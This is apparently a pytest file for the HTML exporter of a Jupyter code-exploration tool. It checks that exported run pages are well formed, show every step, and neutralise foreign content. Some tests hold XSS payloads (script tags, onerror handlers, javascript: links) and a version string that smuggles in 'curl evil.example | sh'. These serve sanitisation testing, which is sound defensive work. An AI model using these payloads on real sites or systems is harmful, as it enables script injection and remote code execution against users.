"""A run as a page: it shows everything, is self-contained, and executes nothing foreign."""

import re
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest

from exploracoder_jupyter.core import types
from exploracoder_jupyter.core.errors import UsageError
from exploracoder_jupyter.core.events import (
    CandidateObserved,
    CandidateSelected,
    FilesKept,
    InputsInvented,
    KnowledgeSearched,
    LookedUp,
    RunFinished,
    RunStarted,
    SolutionJudged,
    SolutionTested,
)
from exploracoder_jupyter.export.export_formats import export_run
from exploracoder_jupyter.export.html import adapt_fragment, wrap_tables
from tests.unit.factories import (
    api,
    complete_events,
    complete_run,
    finished,
    planned,
    proposed,
    ran,
    recorded,
    shown,
    started,
    stream,
)

VOID = {"meta", "link", "br", "hr", "img", "wbr", "col"}
EVIL = "\"'><img src=x onerror=alert(1)><script>alert(1)</script></pre></details>[x](javascript:alert(1))$\\href{x}{y}$"


class Page(HTMLParser):
    """What a browser would make of it, as far as it matters here."""

    def __init__(self, text):
        super().__init__()
        self.text, self.tags, self.open, self.unbalanced = "", [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if self.open and self.open[-1] == tag:
            self.open.pop()
        elif tag not in VOID:
            self.unbalanced.append(tag)

    def handle_data(self, data):
        self.text += data

    def all(self, name):
        return [attributes for tag, attributes in self.tags if tag == name]


def page(records=None, trace=Path("run.ipynb")):
    return export_run(records or complete_run(), "html", trace)


def with_outputs(*outputs: types.Output):
    """A run whose first selected candidate showed these."""
    events = [
        CandidateObserved("1.2", types.Observation("ok", outputs))
        if getattr(event, "candidate", "") == "1.2"
        else event
        for event in complete_events()
    ]
    return page(recorded([event for event in events if not isinstance(event, CandidateSelected)]))


def words(text):
    return " ".join(Page(text).text.split())


def test_it_is_whole():
    made = Page(page())
    assert made.open == made.unbalanced == []
    assert made.all("html") == [{"lang": "en"}]
    assert [len(made.all(tag)) for tag in ("h1", "main", "title", "header", "footer", "nav")] == [1] * 6
    targets = [link["href"] for link in made.all("a") if link["href"].startswith("#")]
    assert len(targets) == 6
    assert {target[1:] for target in targets} <= {attributes.get("id") for _, attributes in made.tags}


def test_headings_have_no_gaps():
    levels = [int(tag[1]) for tag, _ in Page(page()).tags if re.fullmatch("h[1-6]", tag)]
    assert all(level <= before + 1 for before, level in pairwise(levels))


def test_the_page_shows_everything():
    text = words(page(trace=Path("my traces/run.ipynb")))
    for part in (
        "Exploration of networkx",
        "Count the triangles of the karate club graph.",
        "✓ Solved. The check passed.",
        "✓ 1. Load the graph (ran)",
        "1.1 ✗ failed: AttributeError: no 'karate'",
        "1.2 ✓ ran · carried forward · 0.25 s",
        "Candidate 1.2 carried forward: ran; gives the same as 1 other.",
        "2.1r1 ✓ ran · repairs 2.1 · carried forward",
        "1.3 same code as 1.2, not run again; 1.4 no code (the reply was empty)",
        "s1 ✗ failed: NameError: name 'undefined' is not defined",
        "⚠ Warning: All candidates of subtask 2 failed.",
        "ℹ Note: Nothing is sent anywhere.",
        "networkx.karate_club_graph",
        "Python 3.11.9",
        "fresh: Windows has no fork",
        "Installed packages (2) networkx==3.6.1 numpy==2.3.0",
        "jupyter explora check run.ipynb",
        "pip install exploracoder-jupyter==0.1.0",
    ):
        assert part in text


def test_only_what_was_carried_forward_is_unfolded():
    unfolded = [attributes for attributes in Page(page()).all("details") if "open" in attributes]
    assert [attributes["class"] for attributes in unfolded] == ["tried won"] * 2


def test_searches_and_passages_have_links_and_licences():
    passage = types.Passage("web", "Counting", "text", "https://example.org/q?a=1&b=2", licence="CC BY-SA 4.0")
    events = complete_events()
    at = next(n for n, event in enumerate(events) if event == proposed("2.1", "nx.triangle(G)"))
    events.insert(at + 1, LookedUp("2.1", "search_api", "triangles", "..."))
    events.insert(at + 1, KnowledgeSearched("2.1", 1, "error", "q", ("networkx.triangles",), (passage,)))
    made = page(recorded(events))
    assert "Searched again (the error): found networkx.triangles; “Counting”." in words(made)
    assert "Looked up while writing: triangles" in words(made)
    assert "web page; Counting; https://example.org/q?a=1&b=2; CC BY-SA 4.0" in words(made)
    [link] = [link for link in Page(made).all("a") if not link["href"].startswith("#")]
    assert link == {"href": "https://example.org/q?a=1&b=2", "rel": "noreferrer noopener"}


def test_generated_inputs_and_judgements_are_shown():
    events = complete_events()
    tested = [
        InputsInvented((types.InventedInput("t1", "an empty graph", "G = nx.Graph()", "result"),)),
        SolutionTested("s2", (types.InputRun("t1", types.Observation("ok", (stream("zero\n"),))),)),
        SolutionJudged("s2", types.Judgement("right", "it counts", (types.Opinion("t1", "right", "none in it"),))),
    ]
    text = words(page(recorded([*events[:-1], *tested, events[-1]])))
    assert "Solution s2 judged by its outputs: ✓ right: it counts." in text
    assert "an empty graph: ✓ right (none in it)" in text
    assert "G = nx.Graph() # here s2 runs, as above result zero" in text


def test_output_and_files_of_the_solution_are_shown():
    events = complete_events()
    text = words(page(recorded([*events[:-1], FilesKept("run.files", ("a.csv",)), events[-1]])))
    assert "Output the end" in text
    assert "The solution wrote 1 file, kept in run.files: a.csv." in text


def test_an_interrupted_run_is_shown_as_such():
    text = words(page(recorded(complete_events()[:12])))
    assert "No verdict is recorded yet" in text
    assert "1.1 ■ not finished" in text
    assert "What it cost" not in text


def test_an_unsolved_run_shows_what_was_tried():
    events = [event for event in complete_events() if not isinstance(event, RunFinished)]
    text = words(page(recorded([*events, finished("unsolved", None, reason="None passed.")])))
    assert "✗ Unsolved (no solution was found). None passed." in text
    assert "s2 ✓ ran" in text


def test_a_stopped_runs_program_is_marked_never_run():
    events = [event for event in complete_events() if not isinstance(event, RunFinished)]
    joined = finished("stopped", "print('joined')", candidate="", reason="By the user.")
    text = words(page(recorded([*events, joined])))
    assert "what was learned until then is below. By the user." in text
    assert "It was not run as a whole. print('joined')" in text
    assert "Output the end" not in text


def test_without_its_beginning_it_is_refused():
    with pytest.raises(UsageError, match="does not contain the start of its run"):
        page([record for record in complete_run() if not isinstance(record.event, RunStarted)])


def test_nothing_is_fetched_and_nothing_acts():
    everywhere = [
        started(EVIL, model=EVIL, settings={EVIL: EVIL}),
        planned(EVIL),
        replace(complete_events()[7], apis=(api(EVIL, EVIL, EVIL),)),
        proposed("1.1", EVIL),
        KnowledgeSearched(
            "1", 1, "task", EVIL, (EVIL,), (types.Passage("web", EVIL, EVIL, "https://x/" + EVIL, licence=EVIL),)
        ),
        LookedUp("1", EVIL, EVIL, EVIL),
        ran("1.1", stream(EVIL), shown(text_html=EVIL, text_plain=EVIL), shown(text_markdown=EVIL), note=EVIL),
        CandidateSelected(types.Selection("1", "1.1", (EVIL,))),
        proposed("s1", EVIL),
        ran("s1", shown(text_latex=EVIL, text_plain=EVIL), shown(image_svg=EVIL)),
        InputsInvented((types.InventedInput("t1", EVIL, EVIL, EVIL),)),
        SolutionTested("s1", (types.InputRun("t1", types.Observation("ok", (stream(EVIL),))),)),
        SolutionJudged("s1", types.Judgement("right", EVIL, (types.Opinion("t1", "wrong", EVIL),))),
        FilesKept(EVIL, (EVIL,)),
        finished(code=EVIL, candidate="s1", reason=EVIL),
    ]
    made = Page(page(recorded(everywhere), trace=Path("'\"><script>.ipynb")))
    assert made.unbalanced == made.open == []
    assert not made.all("script")
    assert [name for _, attributes in made.tags for name in attributes if name.startswith("on")] == []
    assert [image["src"] for image in made.all("img") if not image["src"].startswith("data:")] == []
    assert [link["href"] for link in made.all("a") if not link["href"].startswith(("#", "https://"))] == []
    [policy] = [meta["content"] for meta in made.all("meta") if "http-equiv" in meta]
    assert policy.split("; ")[:3] == ["default-src 'none'", "img-src data:", "style-src 'unsafe-inline'"]


def test_tags_in_attributes_are_left_alone():
    """Not all versions of the sanitizer escape `<` there."""
    for name in ("img src=x", "h1", "main", "table"):
        hostile = f'<p title="<{name}><meta http-equiv=refresh></table></h1>">a</p>'
        assert adapt_fragment(hostile) == wrap_tables(hostile) == hostile
    assert adapt_fragment('<h2 title="<h1>">a</h2>') == '<div title="<h1>"><strong>a</strong></div>'
    assert adapt_fragment('<img src="data:," title="alt=">').startswith('<img alt="Picture" ')


def test_the_page_recommends_installing_nothing_else():
    begun = replace(started(), version="0.1.0 evil; curl evil.example | sh")
    made = words(page(recorded([begun, *complete_events()[1:]])))
    assert "pip install exploracoder-jupyter jupyter explora check" in made


def test_a_formula_ends_nearby():
    near, far = (with_outputs(shown(text_markdown=f"\\({'x' * length}\\)")) for length in (9, 9000))
    assert "<samp>" in near and "<samp>" not in far


def test_a_formula_stays_as_it_is_written():
    made = with_outputs(
        shown(text_markdown=r"So $a_1*b_2 = \frac{x_*}{y_*}$, and $$\sum_i x_i$$ for $5 or $6, \(z_1\)."),
        shown(text_latex=r"$\displaystyle \int_0^1 x\,dx$", text_plain="1/2"),
    )
    shown_formulas = re.findall(r"<samp>(.*?)</samp>", made)
    assert shown_formulas == [r"$a_1*b_2 = \frac{x_*}{y_*}$", r"$$\sum_i x_i$$", r"\(z_1\)"]
    assert r"$\displaystyle \int_0^1 x\,dx$LaTeX source" in words(made)
    assert "for $5 or $6" in words(made)


def test_markdown_headings_lie_below_the_pages():
    made = with_outputs(shown(text_markdown="# Big\n\n*soft* and\n\n| a | b |\n|--|--|\n| 1 | 2 |"))
    assert "<strong>Big</strong>" in made
    assert "<em>soft</em>" in made
    assert len(Page(made).all("h1")) == 1
    assert re.search(r'<div class="wide shown"[^>]*>.*<table>\s*<thead>\s*<tr>\s*<th>a</th>', made, re.DOTALL)


def test_foreign_html_has_no_landmarks():
    png = "data:image/png;base64,iVBORw0KGgo="
    made = with_outputs(shown(text_html=f'<main><h1>Mine</h1><img src="{png}"></main>'))
    [picture] = Page(made).all("img")
    assert picture["alt"] == "Picture"
    assert len(Page(made).all("main")) == len(Page(made).all("h1")) == 1


def test_the_richest_form_is_shown():
    png: types.Output = {"output_type": "display_data", "data": {"image/png": "iVBORw0KGgo=", "text/plain": "<Figure>"}}
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'
    vector: types.Output = {"output_type": "display_data", "data": {"image/svg+xml": svg, "image/png": "iVBORw0KGgo="}}
    tree: types.Output = {
        "output_type": "display_data",
        "data": {"application/json": {"a": ["é"]}, "text/plain": "Tree"},
    }
    made = with_outputs(png, vector, tree)
    pictures = [image["src"].partition(";")[0] for image in Page(made).all("img")]
    assert pictures == ["data:image/png", "data:image/svg+xml"]
    assert Page(made).all("img")[0]["alt"] == "<Figure>, of 1.2"
    assert '{ "a": [ "é" ] }' in words(made)


def test_a_terminal_is_shown_as_it_ends_up():
    text = words(with_outputs(stream("\r 10%\r100%\n\x1b[31mred\x1b[0m\n")))
    assert "100% red" in text
    assert "10%\r" not in text


def test_secrets_and_homes_stay_out():
    made = with_outputs(stream("sk-abcdefghijklmnopqrstuvwxyz0123456789 /home/mariachen/data.csv"))
    assert "sk-abc" not in made
    assert "mariachen" not in made
